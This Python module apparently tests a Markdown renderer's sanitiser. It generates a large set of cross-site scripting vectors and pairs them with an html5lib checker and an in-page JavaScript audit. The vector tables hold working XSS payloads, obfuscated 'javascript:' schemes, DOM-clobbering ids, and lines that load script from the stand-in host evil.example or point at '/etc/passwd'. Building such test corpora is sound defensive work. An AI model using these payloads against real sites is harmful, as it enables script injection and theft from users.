"""Script-injection vectors, made by rule: what runs × how it is hidden × how Markdown carries it.

Nothing here is copied from a list: a class is a pattern below, and a new
trick is one more entry that is multiplied with all others.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import product

import html5lib

CALL = "alert(1)"
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerrawupdate",
    "onbeforeinput", "oncontentvisibilityautostatechange", "onscrollend", "onbegin",
)
TAGS = (
    "<img src=x {h}={c}>", "<svg {h}={c}>", "<body {h}={c}>", "<details open {h}={c}>", "<input autofocus {h}={c}>",
    "<video><source {h}={c}></video>", "<audio src=x {h}={c}>", "<marquee {h}={c}>", "<a href=# {h}={c}>x</a>",
    "<div style=animation-name:x {h}={c}>x</div>", "<x {h}={c} tabindex=1>x</x>", '<img src="x" {h}="{c}"/>',
    "<svg/{h}={c}>", "<img/src=x/{h}={c}//", "<IMG SRC=x {H}={c}>", "<img src=`x` {h}=`{c}`>", "<img src=x\n{h}={c}>",
    "<img src=x\t{h}\t=\t{c}>", "<<img src=x {h}={c}>>", '"><img src=x {h}={c}>', "'><img src=x {h}={c}>",
    "--><img src=x {h}={c}>", "</title><img src=x {h}={c}>", "</textarea><img src=x {h}={c}>", "]]><img src=x {h}={c}>",
    '" {h}="{c}" x="', "' {h}='{c}' x='", "` {h}=`{c}` x=`",
)
ELEMENTS = (
    "<script>{c}</script>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script\n>{c}</script\n>", "<script/x>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script>{c}", "<script>{c}//<!--",
    "</script><script>{c}</script>", "<!--<script>{c}</script>-->", "<!--><script>{c}</script>",
    "<![CDATA[<script>{c}</script>]]>", "<?xml <script>{c}</script> ?>", "<!DOCTYPE x [<!ENTITY y '{c}'>]>",
    "<iframe src=javascript:{c}></iframe>", "<iframe srcdoc='<script>{c}</script>'></iframe>",
    "<object data=javascript:{c}></object>", "<embed src=javascript:{c}>", "<form action=javascript:{c}><button>x",
    "<button formaction=javascript:{c}>x", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>", "<svg><style><img src=x onerror={c}>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=x onload={c}>#x'/>",
    "<svg><a xlink:href=javascript:{c}><text y=9>x</text></a></svg>", "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<xmp><p title='</xmp><img src=x onerror={c}>'>",
    "<select><style></select><img src=x onerror={c}>", "<table background=javascript:{c}>", "<frameset onload={c}>",
    "<a href=javascript:{c}>x</a>", "<area href=javascript:{c}>", "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/p.png 1x'>", "<p style=\"background:url('//evil.example/p.png')\">x</p>",
    "<div id=__config>{{}}</div>", "<a name=location href=x>x</a>", "<form id=document><input name=cookie></form>",
    "<img name=getElementById>", "<div class=mermaid>graph TD; A-->B</div>", "<portal src=//evil.example></portal>",
    "<fencedframe></fencedframe>", "<dialog open>x</dialog>", "<slot onslotchange={c}></slot>", "<plaintext>{c}",
)
SCHEMES = (
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "java\tscript:{c}", "java&#10;script:{c}",
    "java&NewLine;script:{c}", "java&Tab;script:{c}", "&#106;avascript:{c}", "&#x6A;avascript:{c}",
    "&#0000106avascript:{c}", "javascript&colon;{c}", "javascript&#58;{c}", "&#1;javascript:{c}", "\\javascript:{c}",
    "javascript\\:{c}", "javascript:%61lert(1)", "javascript://x%0a{c}", "vbscript:msgbox(1)", "livescript:{c}",
    "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={c}>", "DATA:text/html,x", "blob:x", "filesystem:x", "file:///etc/passwd",
    "view-source:x", "jar:x!/", "mhtml:x", "feed:javascript:{c}", "about:blank", "//evil.example/x", "\\\\evil.example\\x",
    "/\\evil.example/x", "\\/evil.example/x", "https:javascript:{c}", "http:&#47;&#47;evil.example\" onclick={c} x=\"",
    "mailto:x\"onmouseover={c}", "tel:\"><script>{c}</script>", "x\"onerror={c} y=\"", "?x=javascript:{c}", "#\"><svg onload={c}>",
    "../../../../etc/passwd", "%6aavascript:{c}", "ｊavascript:{c}", "jаvascript:{c}", "javascript：{c}", "ja\\vascript:{c}",
    "https://a.example/\" onclick=\"{c}", "https://a.example/'onclick='{c}", "https://a.example/<script>{c}</script>",
    "http://[::1", "https://x@evil.example", "javascript:{c}//https://a.example", "\u2028javascript:{c}", "\u00a0javascript:{c}",
)
CARRIERS = (
    "[x]({u})", "[x](<{u}>)", "[x]({u} 'title')", "![x]({u})", "![x](<{u}>)", "<{u}>", "[x][r]\n\n[r]: {u}", "[x][r]\n\n[r]: <{u}>",
    "![x][r]\n\n[r]: {u}", "[r]\n\n[r]: {u} \"t\"", "[![x]({u})]({u})", "[x](\n{u}\n)", "x[^1]\n\n[^1]: [y]({u})", "| a |\n|---|\n| [x]({u}) |",
    "- [ ] [x]({u})", "> [!NOTE]\n> [x]({u})", "~~[x]({u})~~", "## [x]({u})",
)
TITLES = (
    "[x](y.md '{v}')", '[x](y.md "{v}")', "[x](y.md ({v}))", '![x](y.png "{v}")', "[x]\n\n[x]: y.md '{v}'",
    "*[HTML]: {v}", "[{v}](https://a.example)", "![{v}](y.png)", "[x](https://a.example '{v}')",
)
BLOCKS = (
    "```{v}\nx\n```", "~~~ {v}\nx\n~~~", "```\n{v}\n```", "    {v}", "`{v}`", "``{v}``", "| {v} |\n|---|\n| {v} |", "- {v}", "1. {v}", "> {v}",
    "> [!{v}]\n> x", "x[^{v}]\n\n[^{v}]: y", "x[^1]\n\n[^1]: {v}", "# {v}", "###### {v}", "{v}\n===", "## x {{#{v}}}", "## x {{ onclick={v} }}",
    "x {{: {v} }}", "{{: #__config {v} }}", "**{v}**", "*{v}*", "~~{v}~~", "- [x] {v}", "\\{v}", "[{v}", "]{v}", "[[{v}]]", "$${v}$$", "%%{v}%%",
    "+++ {v}", "=== \"{v}\"", "!!! note \"{v}\"", "??? {v}", "--8<-- \"{v}\"", "{{{{ {v} }}}}", "{{% {v} %}}", "::: {v}", ":{v}:", "[TOC] {v}",
    "&lt;{v}", "a<br>{v}", "a\\\n{v}", "a  \n{v}",
)
PAYLOADS = ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", '"><svg onload=alert(1)>', "' onmouseover=alert(1) '",
            "javascript:alert(1)", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;")
IDS = (
    "__config", "__search", "__drawer", "__toc", "__palette", "__palette_0", "__tabbed_1_1", "__proto__", "constructor", "location", "noi-dung",
    "document", "cookie", "body", "\\_\\_config", "_\\_config", "`__config`", "**\\_\\_config**", "&#95;&#95;config", "&lowbar;_config", "portal-stamp",
)


def _hidden(text: str) -> Iterator[str]:
    """*text* as it is, and behind references, other letters and control characters."""
    yield text
    yield text.replace("<", "&lt;").replace(">", "&gt;")
    yield "".join(f"&#{ord(c)};" for c in text)
    yield "".join(f"&#x{ord(c):x};" for c in text)
    yield text.replace("<", "＜").replace(">", "＞")
    yield text.replace("<", "\\<")
    yield text.replace("<", "<\u200b")
    yield text.replace("=", "&#61;").replace("(", "&lpar;").replace(")", "&rpar;")
    yield text.replace("<", "\x02").replace(">", "\x03")
    yield text.replace("<", "&#2;0&#3;<")


def vectors() -> list[str]:
    """Every vector once, in a fixed order."""
    found: dict[str, None] = {}
    for place, (tag, handler) in enumerate(product(TAGS, HANDLERS)):
        # Not every tag with every handler: each pair of rows and columns meets, the product would only repeat it.
        if place % 3 == 0:
            found[tag.format(h=handler, H=handler.upper(), c=CALL)] = None
    for element in ELEMENTS:
        found[element.format(c=CALL)] = None
    for payload in PAYLOADS:
        for text in _hidden(payload):
            found[text] = None
    for scheme, carrier in product(SCHEMES, CARRIERS):
        found[carrier.format(u=scheme.format(c=CALL))] = None
    for frame, payload in product((*TITLES, *BLOCKS), PAYLOADS):
        found[frame.format(v=payload)] = None
    for name in IDS:
        for form in ("## {}", "## x {{#{}}}", "<p id={}>x</p>", "[x](#{})", "x[^{0}]\n\n[^{0}]: y", "{}\n---"):
            found[form.format(name)] = None
    for many in (3, 50):
        found["[" * many + "x" + "](javascript:alert(1))" * many] = None
        found["![" * many + "x" + "](javascript:alert(1))" * many] = None
        found["<" * many + "script>alert(1)</script>"] = None
        found["[x](" + "(" * many + "javascript:alert(1)" + ")" * many + ")"] = None
    return list(found)


PLACES = {
    "body": "{}", "heading": "## {}", "quote": "> {}", "list item": "- {}", "link text": "[{}](b.md)", "link": "[x]({})",
    "cell": "| a |\n|---|\n| {} |", "image text": "![{}](a.png)", "emphasis": "**{}**", "note": "x[^1]\n\n[^1]: {}",
}


def one_line(text: str) -> str:
    return " ".join(text.split())


# What a browser would make of it

_FORBIDDEN = frozenset((
    "applet", "base", "button", "dialog", "embed", "fencedframe", "form", "frame", "frameset", "iframe", "input", "link", "marquee", "math", "meta",
    "noscript", "object", "plaintext", "portal", "script", "select", "slot", "style", "svg", "template", "textarea", "title", "video", "audio", "xmp",
))
_ADDRESSES = frozenset(("action", "background", "cite", "data", "formaction", "href", "ping", "poster", "src", "srcset", "xlink:href"))
_PLAIN_ADDRESS = re.compile(r"(?:https?|mailto|tel):|(?![a-zA-Z][a-zA-Z0-9+.-]*:|//|[\\/]{2})[^\\]*$", re.IGNORECASE)
_OUR_ID = re.compile(r"muc(?:-[a-z0-9]+)*|chu-thich-\d+")


def dangerous(fragment: str) -> list[str]:
    """What in *fragment*, written by the renderer, could run, load, navigate unseen or replace a script's objects.

    html5lib reads it as a browser would: by the standard's own rules of repair.
    """
    found: list[str] = []
    ids: set[str] = set()
    for element in html5lib.parseFragment(fragment, namespaceHTMLElements=False).iter():
        tag = str(element.tag)
        if tag.rpartition("}")[2] in _FORBIDDEN:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            if name.startswith("on") or name in ("style", "srcdoc", "name", "title", "is", "slot", "part", "nonce"):
                found.append(f"{tag} {name}")
            elif name == "id" and (not _OUR_ID.fullmatch(value) or value in ids):
                found.append(f"id {value}")
            elif name in _ADDRESSES:
                # What a browser passes over before it looks at the scheme.
                bare = re.sub(r"[\x00-\x20]", "", value)
                if not _PLAIN_ADDRESS.match(bare) or (tag == "img" and re.match("[a-zA-Z][a-zA-Z0-9+.-]*:", bare)):
                    found.append(f"{tag} {name}={value[:60]}")
            if name == "id":
                ids.add(value)
    return found


DOCUMENT_AUDIT = """() => {
  const found = [], words = new Set(["SCRIPT", "IFRAME", "OBJECT", "EMBED", "BASE", "STYLE", "MATH", "TEMPLATE", "META", "LINK"]);
  for (const e of document.querySelectorAll("*")) {
    const inside = e.closest("main");
    // A page to print brings one more style sheet of ours; nothing else of the kind belongs there.
    const ours = e.tagName === "LINK" && e.rel === "stylesheet" && /^(?:\\.\\.\\/)*assets\\/portal-/.test(e.getAttribute("href"));
    if (inside && !ours && words.has(e.tagName.toUpperCase())) found.push(e.outerHTML.slice(0, 120));
    for (const a of e.attributes) {
      if (/^on/i.test(a.name) || (a.name === "style" && inside)) found.push(e.tagName + " " + a.name);
      if (/^(?:href|src|action|formaction|data|xlink:href|srcset|poster|ping)$/.test(a.name)
          && /^[\\x00-\\x20]*(?:j[\\s]*a[\\s]*v[\\s]*a[\\s]*s|vbscript|data:(?!image)|blob:|filesystem:)/i.test(a.value)) found.push(a.value.slice(0, 80));
      if (a.name === "id" && (/^__/.test(a.value) || (inside && a.value in window && !(window[a.value] instanceof Element)))) found.push("id " + a.value);
    }
  }
  const ids = [...document.querySelectorAll("[id]")].map(e => e.id);
  for (const id of ids) if (ids.indexOf(id) !== ids.lastIndexOf(id)) found.push("twice: " + id);
  if (window.__ran) found.push("ran: " + window.__ran);
  return [...new Set(found)];
}"""
"""Run in the finished page; returns what should not be there."""
